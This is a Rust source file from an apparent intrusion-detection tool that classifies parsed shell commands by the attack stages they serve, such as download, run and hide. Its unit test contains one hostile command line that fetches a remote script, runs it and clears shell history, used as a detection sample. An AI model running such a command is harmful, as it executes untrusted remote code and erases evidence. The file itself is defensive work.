//! What a command serves in an intrusion, for who looks at commands in order.

use super::action::Tactic;
use super::parse::Command;
use crate::session::{Stage, Stages};

impl Command {
    /// Returns the stages of an intrusion that the command's actions serve.
    #[must_use]
    pub fn stages(&self) -> Stages {
        self.findings
            .all
            .entries()
            .map(|entry| match entry.tactic {
                Tactic::Execution | Tactic::Escalation => Stage::Run,
                Tactic::Control if entry.id == DOWNLOAD => Stage::Download,
                Tactic::Control | Tactic::Collection => Stage::Connect,
                Tactic::Persistence => Stage::Persist,
                Tactic::Evasion => Stage::Hide,
                Tactic::Credentials => Stage::Credentials,
                Tactic::Discovery => Stage::Discover,
                Tactic::Impact => Stage::Impact,
            })
            .collect()
    }
}

/// Ingress Tool Transfer.
const DOWNLOAD: &str = "T1105";

#[cfg(test)]
mod tests {
    use ringtrue_core::Limits;

    use super::*;

    #[test]
    fn actions_serve_stages() {
        let stages = |line: &str| {
            let (command, _) = Command::parse(line, &Limits::default());
            command.stages()
        };
        let found = stages("wget http://192.0.2.1/x.sh -O /tmp/x; sh /tmp/x; history -c");
        for stage in [Stage::Download, Stage::Run, Stage::Hide] {
            assert!(found.has(stage), "{stage:?}: {found:?}");
        }
        assert!(stages("ls -l").is_empty());
    }
}
